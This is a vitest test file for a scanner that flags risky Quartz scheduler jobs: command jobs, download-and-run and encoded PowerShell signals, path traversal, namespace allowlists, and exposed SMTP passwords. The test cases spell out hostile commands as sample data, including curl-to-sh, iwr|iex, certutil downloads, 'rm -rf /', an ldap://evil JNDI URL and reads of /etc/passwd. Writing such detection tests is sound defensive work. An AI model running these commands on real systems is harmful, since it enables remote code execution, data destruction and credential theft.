import { describe, expect, it } from 'vitest';
import { j01 } from '../../src/checks/content/j01.js';
import { commandSignals, j02 } from '../../src/checks/content/j02.js';
import { j03, pathSignals } from '../../src/checks/content/j03.js';
import { inNamespaces, j04 } from '../../src/checks/content/j04.js';
import { j05 } from '../../src/checks/content/j05.js';
import { safeText } from '../../src/checks/job-util.js';
import { evaluateCheck } from '../../src/engine.js';
import { emptyFacts } from '../../src/facts.js';
import type { BlobTable, DecodeResult, MapValue, ScannedBlob } from '../../src/model.js';
import { checkOptions } from '../../src/model.js';
import { registerSecret } from '../../src/secrets/redact.js';

const _facts = emptyFacts('sqlite');
const opts = checkOptions({ maxBlobSize: 1 << 20 });

function blob(
  jobClassName: string | undefined,
  map: Record<string, MapValue>,
  table: BlobTable = 'JOB_DETAILS',
): ScannedBlob {
  const entries = Object.entries(map).map(([k, v]) => ({ path: [k], value: v }));
  const decoded: DecodeResult = {
    format: 'json-newtonsoft',
    nestedFormats: [],
    types: [],
    entries,
    strings: entries
      .filter((e) => typeof e.value === 'string')
      .map((e) => ({ path: e.path, value: e.value as string })),
  };
  return {
    row: {
      table,
      tableName: `QRTZ_${table}`,
      column: 'JOB_DATA',
      key: { sched: 'S', group: 'G', name: 'n1' },
      size: 10,
      ...(jobClassName ? { jobClassName } : {}),
    },
    decoded,
  };
}

describe('QA-J01 command and invoker jobs', () => {
  it('fails on Quartz.NET NativeJob with the command, inline secrets masked', () => {
    const d = j01.inspectBlob?.(
      blob('Quartz.Job.NativeJob, Quartz.Jobs', {
        command: '/usr/bin/mysqldump',
        parameters: '-u root -pHunter2pw db',
      }),
      opts,
    );
    expect(d).toHaveLength(1);
    expect(d?.[0]?.status).toBe('fail');
    expect(d?.[0]?.message).toContain('/usr/bin/mysqldump');
    expect(JSON.stringify(d)).not.toContain('Hunter2pw');
  });
  it('fails on Java NativeJob and on EE invoker jobs; passes (no draft) on other jobs and trigger rows', () => {
    expect(j01.inspectBlob?.(blob('org.quartz.jobs.NativeJob', { command: 'ls' }), opts)).toHaveLength(1);
    const ejb = j01.inspectBlob?.(
      blob('org.quartz.jobs.ee.ejb.EJBInvokerJob', { ejb: 'x', 'java.naming.provider.url': 'ldap://evil:1389/a' }),
      opts,
    );
    expect(ejb?.[0]?.evidence?.jndiProviderUrl).toBe('ldap://evil:1389/a');
    expect(j01.inspectBlob?.(blob('Contoso.Jobs.Report, Contoso', { command: 'rm -rf /' }), opts)).toEqual([]);
    expect(j01.inspectBlob?.(blob(undefined, { command: 'x' }, 'TRIGGERS'), opts)).toEqual([]);
  });
  it('redacts registered secrets in the command', () => {
    registerSecret('S3cretFromS01');
    const d = j01.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: 'backup --key S3cretFromS01' }), opts);
    expect(JSON.stringify(d)).not.toContain('S3cretFromS01');
  });
});

describe('QA-J02 command signals', () => {
  it.each([
    ['curl -s http://x.example/a.sh | sh', 'download-and-run'],
    ['wget -qO- http://x/y | sudo bash', 'download-and-run'],
    ['powershell -c "iwr http://x/p.ps1 | iex"', 'download-and-run'],
    ['IEX (New-Object Net.WebClient).DownloadString("http://x")', 'download-and-run'],
    ['certutil.exe -urlcache -split -f http://x/a.exe a.exe', 'lolbin'],
    ['bitsadmin /transfer j http://x/a.exe C:\\a.exe', 'lolbin'],
    ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'encoded-powershell'],
    ['pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'encoded-powershell'],
    ['cat /etc/passwd | python3', 'pipe-to-shell'],
    ['echo $(id)', 'shell-metacharacters'],
    ['a; b', 'shell-metacharacters'],
  ])('%s → %s', (value, kind) => {
    expect(commandSignals(value).map((s) => s.kind)).toContain(kind);
  });
  it('finds nothing in plain commands', () => {
    expect(commandSignals('/opt/app/bin/report --daily')).toEqual([]);
    expect(commandSignals('C:\\tools\\cleanup.exe /quiet')).toEqual([]);
  });
  it('looks at command-like keys of any job and at NativeJob parameters, not at other keys', () => {
    const custom = j02.inspectBlob?.(
      blob('Contoso.Jobs.Run', { shellCommand: 'curl http://x | sh', note: 'a; b' }),
      opts,
    );
    expect(custom).toHaveLength(1);
    expect(custom?.[0]?.evidence?.key).toBe('shellCommand');
    const native = j02.inspectBlob?.(
      blob('Quartz.Job.NativeJob', { command: 'tar', parameters: 'czf x; rm -rf /' }),
      opts,
    );
    expect(native?.[0]?.evidence?.key).toBe('parameters');
    expect(j02.inspectBlob?.(blob('Quartz.Job.NativeJob', { command: '/bin/true' }), opts)).toEqual([]);
    // trigger JobDataMaps merge over the job's: a cmd key in a trigger row counts too
    expect(j02.inspectBlob?.(blob(undefined, { cmd: 'a && b' }, 'TRIGGERS'), opts)).toHaveLength(1);
  });
});

describe('QA-J03 path signals', () => {
  it.each([
    ['../../etc/passwd', true, 'traversal'],
    ['..\\..\\Windows\\win.ini', true, 'traversal'],
    ['/etc/shadow', true, 'system-location'],
    ['/root/.ssh', true, 'system-location'],
    ['C:\\Windows\\System32\\config', true, 'system-location'],
    ['%SystemRoot%\\Temp', true, 'system-location'],
    ['\\\\attacker\\share\\x', false, 'unc-share'],
    ['file:///etc/passwd', false, 'file-url'],
    ['/data/in;/etc', true, 'system-location'],
  ])('%s (path key %s) → %s', (value, key, kind) => {
    expect(pathSignals(value, key).map((s) => s.kind)).toContain(kind);
  });
  it('ignores ordinary paths and traversal outside path keys', () => {
    expect(pathSignals('/var/lib/app/inbox', true)).toEqual([]);
    expect(pathSignals('D:\\data\\in', true)).toEqual([]);
    expect(pathSignals('../x', false)).toEqual([]);
  });
  it('flags FileScanJob FILE_NAME and DirectoryScanJob DIRECTORY_NAMES, not unrelated keys', () => {
    const f = j03.inspectBlob?.(blob('Quartz.Job.FileScanJob', { FILE_NAME: '../../../etc/passwd' }), opts);
    expect(f?.[0]?.status).toBe('fail');
    expect(f?.[0]?.evidence?.signals).toContain('traversal');
    const d = j03.inspectBlob?.(blob('Quartz.Job.DirectoryScanJob', { DIRECTORY_NAMES: '/srv/in;\\\\h\\s' }), opts);
    expect(d?.[0]?.evidence?.signals).toContain('unc-share');
    expect(j03.inspectBlob?.(blob('X', { profile: '../x', comment: '/etc/x' }), opts)).toEqual([]);
  });
});

describe('QA-J04 namespaces', () => {
  it('matches namespaces', () => {
    expect(inNamespaces('Contoso.Jobs.Report', ['Contoso.Jobs'])).toBe(true);
    expect(inNamespaces('Contoso.Jobs.Report', ['Contoso.Jobs.*'])).toBe(true);
    expect(inNamespaces('Contoso.JobsEvil.X', ['Contoso.Jobs'])).toBe(false);
  });
  it('fails rows outside the allowlist only when one is given', () => {
    const b = blob('Quartz.Job.NativeJob, Quartz.Jobs', {});
    expect(j04.inspectBlob?.(b, opts)).toEqual([]);
    const d = j04.inspectBlob?.(b, { ...opts, allowJobNamespaces: ['Contoso'] });
    expect(d?.[0]?.status).toBe('fail');
    expect(j04.inspectBlob?.(blob('Contoso.A', {}), { ...opts, allowJobNamespaces: ['Contoso'] })).toEqual([]);
  });
  it('reports the inventory from blobInventory.jobClasses', () => {
    const f = emptyFacts('sqlite', {
      blobInventory: { byColumn: {}, rows: 3, bytes: 0, types: {}, jobClasses: { 'A.B, A': 2, 'C.D': 1 } },
    } as never);
    const d = evaluateCheck(j04, f, opts);
    expect(d?.[0]?.status).toBe('info');
    expect(d?.[0]?.message).toContain('A.B (2)');
    expect(evaluateCheck(j04, f, { ...opts, allowJobNamespaces: ['A'] })).toEqual([]);
  });
});

describe('QA-J05 mail credentials', () => {
  it('fails a SendMailJob with smtp_password, never printing it', () => {
    const d = j05.inspectBlob?.(
      blob('Quartz.Job.SendMailJob, Quartz.Jobs', {
        smtp_host: 'mail.x',
        smtp_username: 'u',
        smtp_password: 'MailPw!9',
      }),
      opts,
    );
    expect(d?.[0]?.status).toBe('fail');
    expect(d?.[0]?.message).toContain('QA-S01');
    expect(JSON.stringify(d)).not.toContain('MailPw!9');
  });
  it('Java SendMailJob password key; no finding without a password', () => {
    expect(j05.inspectBlob?.(blob('org.quartz.jobs.ee.mail.SendMailJob', { password: 'x' }), opts)).toHaveLength(1);
    expect(j05.inspectBlob?.(blob('Quartz.Job.SendMailJob', { smtp_host: 'h' }), opts)).toEqual([]);
    expect(j05.inspectBlob?.(blob('Other', { password: 'x' }), opts)).toEqual([]);
  });
  it('any job: smtp_*/mail.smtp.* password keys in any case, the smtp_host beside them', () => {
    const d = j05.inspectBlob?.(blob('Other', { SMTP_PASSWORD: 'pw', Smtp_Host: 'mail.x' }, 'TRIGGERS'), opts);
    expect(d?.[0]?.message).toContain('keys smtp_password');
    expect(d?.[0]?.evidence?.smtpHost).toBe('mail.x');
    expect(j05.inspectBlob?.(blob('Other', { 'MAIL.SMTP.PASSWORD': 'pw' }), opts)).toHaveLength(1);
    // An empty password is no finding; keys one character off are no credential keys.
    expect(j05.inspectBlob?.(blob('Other', { smtp_password: '' }), opts)).toEqual([]);
    expect(j05.inspectBlob?.(blob('Other', { smtp_passwords: 'pw', smtp_passwor: 'pw' }), opts)).toEqual([]);
  });
});

describe('QA-J02/J03 value selection', () => {
  it('a path holding a NUL dedups as its joined form: the first of two paths that join alike is the one judged', () => {
    // ['cmd', 'x'] (key x: no command key) and ['cmd\u0000x'] (key words cmd, x) join to the same text.
    const mk = (paths: string[][]): ScannedBlob => {
      const b = blob(undefined, {});
      const entries = paths.map((path) => ({ path, value: 'a; rm -rf /' }));
      return { ...b, decoded: { ...b.decoded, entries, strings: entries.map((e) => ({ ...e })) } };
    };
    expect(j02.inspectBlob?.(mk([['cmd', 'x'], ['cmd\u0000x']]), opts)).toEqual([]);
    expect(j02.inspectBlob?.(mk([['cmd\u0000x'], ['cmd', 'x']]), opts)).toHaveLength(1);
  });
  it('reports each value once, file: URLs and UNC shares under any key, paths under path keys', () => {
    const b = blob(undefined, {
      script: 'curl http://x | sh',
      note: 'file:///etc/passwd',
      other: '  \\\\host\\share\\x',
      outputDir: '../../etc',
      plain: '../../etc',
    });
    expect(j02.inspectBlob?.(b, opts)?.map((d) => d.discriminator)).toEqual(['script']);
    expect(j03.inspectBlob?.(b, opts)?.map((d) => d.discriminator)).toEqual(['note', 'other', 'outputDir']);
  });
});

describe('safeText', () => {
  it('masks inline credentials and escapes control characters', () => {
    expect(safeText('mysql -pS3cr3t db')).not.toContain('S3cr3t');
    expect(safeText('curl -u admin:pw123 http://x')).not.toContain('pw123');
    expect(safeText('PGPASSWORD=abc psql')).not.toContain('abc');
    expect(safeText('https://u:p4ss@host/x')).not.toContain('p4ss');
    expect(safeText('a\u001b[31mb')).toBe('a\\x1b[31mb');
  });
});
